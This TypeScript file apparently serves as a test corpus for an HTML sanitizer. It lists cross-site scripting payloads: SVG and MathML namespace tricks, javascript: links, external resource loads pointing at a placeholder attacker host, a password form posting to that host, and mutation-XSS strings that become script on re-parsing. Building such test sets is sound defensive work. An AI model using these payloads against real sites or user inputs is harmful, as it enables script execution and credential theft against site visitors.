/** SVG, MathML, and texts that turn into something else when they are read twice. */

const attack = ['<img src=x onerror=HIT>', '<script>HIT</script>', '<style>*{display:none}</style>', '<iframe src="javascript:HIT"></iframe>']
const within = (wrappers: readonly (readonly [string, string])[], inner: readonly string[]) => wrappers.flatMap(([before,
  after]) => inner.map((text) => before + text + after))

export const svg: string[] = [
  ...within([['<svg>', '</svg>'], ['<svg><foreignObject>', '</foreignObject></svg>'], ['<svg><desc>', '</desc></svg>'], ['<svg><title>', '</title></svg>'],
    ['<svg><g>', '</g></svg>'], ['<svg><defs><symbol>', '</symbol></defs></svg>'], ['<svg><style>', '</style></svg>']], attack),
  ...['onload=HIT', '/onload=HIT', '\tonload=HIT', 'onload="HIT"', 'onbegin=HIT',
    'id=x onfocusin=HIT tabindex=0 autofocus'].map((attributes) => `<svg ${attributes}></svg>`),
  '<svg><script>HIT</script></svg>', '<svg><script>HIT', '<svg><script href=EVIL /></svg>', '<svg><script xlink:href=EVIL /></svg>',
    '<svg><script href="data:text/javascript,HIT"/></svg>', '<svg><script>&#104;it</script><script>HI&#84;</script></svg>',
    '<svg><![CDATA[><img src=x onerror=HIT>]]></svg>', '<svg><style><![CDATA[</style><img src=x onerror=HIT>]]></svg>',
  ...['animate', 'set', 'animateTransform', 'animateMotion', 'handler',
    'discard'].flatMap((name) => [`<svg><${name} onbegin=HIT attributeName=x dur=1s /></svg>`, `<svg><${name} onend=HIT attributeName=x dur=1ms></svg>`,
    `<svg><a><${name} attributeName=href values=javascript:HIT to=javascript:HIT /><text y=20>x</text></a></svg>`,
    `<svg><a id=x><text>x</text></a><${name} href=#x attributeName=href to=javascript:HIT /></svg>`]),
  '<svg><use href="EVIL#x"/></svg>', '<svg><use xlink:href="PATH#x"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=HIT></svg>#x"/></svg>', '<svg><image href=EVIL /></svg>',
    '<svg><image xlink:href=PATH onerror=HIT /></svg>', '<svg><feImage href=EVIL /></svg>',
    '<svg><filter id=f><feImage href=PATH /></filter><rect filter=url(#f) width=9 height=9 /></svg>',
  '<svg><rect fill="url(EVIL)" width=9 height=9 /></svg>', '<svg><rect mask="url(EVIL#m)" width=9 height=9 /></svg>',
    '<svg><text font-family="x" style="src:url(EVIL)">x</text></svg>', '<svg><style>@import "EVIL";</style></svg>',
    '<svg><style>*{background:url(EVIL)}</style></svg>', '<svg><a href=javascript:HIT><text>x</text></a></svg>',
    '<svg><a xlink:href=javascript:HIT><text>x</text></a></svg>', '<svg><a href="EVIL" target=_top><circle r=999 /></a></svg>',
  '<svg style="position:fixed;inset:0" onclick=HIT><rect width=9999 height=9999 /></svg>', '<svg><cursor href=EVIL /></svg>', '<svg><tref href=EVIL /></svg>',
    '<svg><font-face-uri href=EVIL /></svg>', '<svg><mpath href=EVIL /></svg>', '<svg><textPath href=EVIL>x</textPath></svg>',
    '<svg xmlns="http://www.w3.org/1999/xhtml" onload=HIT>', '<svg><x:script xmlns:x="http://www.w3.org/1999/xhtml">HIT</x:script></svg>',
    '<svg><animate attributeName=href begin=0s onbegin=HIT></animate></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>HIT</script>"></iframe></foreignObject></svg>',
    '<svg><foreignObject><form action=EVIL><input name=password type=password autofocus onfocus=HIT></form></foreignObject></svg>',
    '<svg><foreignObject><body onload=HIT></foreignObject></svg>', '<svg></p><style><a id="</style><img src=1 onerror=HIT>">',
]

const texts = ['mi', 'mo', 'mn', 'ms', 'mtext']
export const mathml: string[] = [
  ...within([...texts.map((name) => [`<math><${name}>`, `</${name}></math>`] as const), ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'], ['<math><annotation-xml encoding="application/xhtml+xml">', '</annotation-xml></math>'], ['<math><annotation-xml>', '</annotation-xml></math>'], ['<math><semantics>', '</semantics></math>']], attack.slice(0, 2)),
  ...texts.map((name) => `<math><${name}><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=HIT&gt;"></${name}></math>`),
  '<math href="javascript:HIT">x</math>', '<math xlink:href="javascript:HIT">x</math>', '<math><mrow href="javascript:HIT" onclick=HIT>x</mrow></math>',
    '<math><maction actiontype="statusline#http://evil.test" xlink:href="javascript:HIT">x</maction></math>',
    '<math><mi onmouseover=HIT style="background:url(EVIL)">x</mi></math>', '<math><mglyph src=EVIL /></math>',
    '<math><mtext><mglyph src=EVIL><malignmark></mtext></math>', '<math background=EVIL>', '<math><style>*{background:url(EVIL)}</style></math>',
    '<math><mpadded style="position:fixed;width:999px;height:999px">x</mpadded></math>', '<math><ms><a href=javascript:HIT>x</a></ms></math>',
    '<math><merror onload=HIT autofocus tabindex=0 onfocus=HIT></math>', '<math><annotation src=EVIL href=EVIL>x</annotation></math>',
]

const rawText = ['noscript', 'style', 'title', 'textarea', 'xmp', 'iframe', 'noembed', 'noframes', 'plaintext', 'script', 'template', 'select', 'option',
  'audio', 'video', 'comment', 'listing', 'svg', 'math']
export const mutation: string[] = [
  ...rawText.flatMap((name) => [`<${name}><p title="</${name}><img src=x onerror=HIT>">`, `<${name}><!--</${name}><img src=x onerror=HIT>--></${name}>`, `<svg><${name}><p id="</${name}><img src=x onerror=HIT>"></svg>`, `<math><mtext><${name}><a title="</${name}><img src=x onerror=HIT>"></math>`]),
  ...['form', 'table', 'a', 'nobr', 'button', 'select', 'p', 'h1', 'li'].flatMap((name) => [
    `<${name}><math><mtext></${name}><${name}><mglyph><style></math><img src onerror=HIT>`,
      `<math><mtext><${name}><mglyph><svg><mtext><style><path id="</style><img onerror=HIT src>">`,
      `<${name}><${name}><svg><style></${name}><img src=x onerror=HIT>`, `<svg><${name}><style><!--</style><img src=x onerror=HIT>-->`]),
  '<table><td><table><tr><svg><style><a title="</style><img src=x onerror=HIT>">',
    '<math><annotation-xml encoding=text/html><style><!--</style><img src=x onerror=HIT>--></annotation-xml></math>',
    '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=HIT>">', '<math></br><style><!--</style><img src=x onerror=HIT>',
    '<svg></br><style><!--</style><img src=x onerror=HIT>', '<svg><p><style><img src="</style><img src=x onerror=HIT//">',
    '<svg><table><style><img src="</style><img src=x onerror=HIT//">', '<a><a><svg><desc><a><style><a id="</style><img src=x onerror=HIT>">',
    '<select><template><style><!--</style><img src=x onerror=HIT>--></template></select>', '<select><iframe><select><img src=x onerror=HIT></iframe></select>',
  '<template shadowrootmode=open><img src=x onerror=HIT></template>',
    '<div><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style><img src=x onerror=HIT></template></div>',
    '<template><template><img src=x onerror=HIT></template></template>', '<iframe srcdoc="&lt;img src=x onerror=HIT&gt;"></iframe>',
    '<iframe srcdoc="&amp;lt;img src=x onerror=HIT&amp;gt;">', '<p title="&lt;/p&gt;&lt;img src=x onerror=HIT&gt;">x</p>',
    '<a title="`"><img alt="`><img src=x onerror=HIT>">', '<p title="</noscript><img src=x onerror=HIT>">',
    '<a title="<!--">x</a><img src=x onerror=HIT><p title="-->">', '<p title="]]&gt;&lt;img src=x onerror=HIT&gt;">x</p>', '&lt;img src=x onerror=HIT&gt;',
    '&amp;lt;img src=x onerror=HIT&amp;gt;', '<b>&lt;script&gt;HIT&lt;/script&gt;</b>', '<frameset><frame src=javascript:HIT></frameset>',
    '<image><style><!--</style></image><img src=x onerror=HIT>', '<keygen><style></keygen><img src=x onerror=HIT>', '<body><svg><body onload=HIT>',
    '<svg><html onload=HIT>', '<!doctype html><svg><head><script>HIT</script>', '<p><svg><p><img src=x onerror=HIT>',
    '<dialog open><form method=dialog><math><mtext></form><form><mglyph><style></math><img src onerror=HIT>',
]
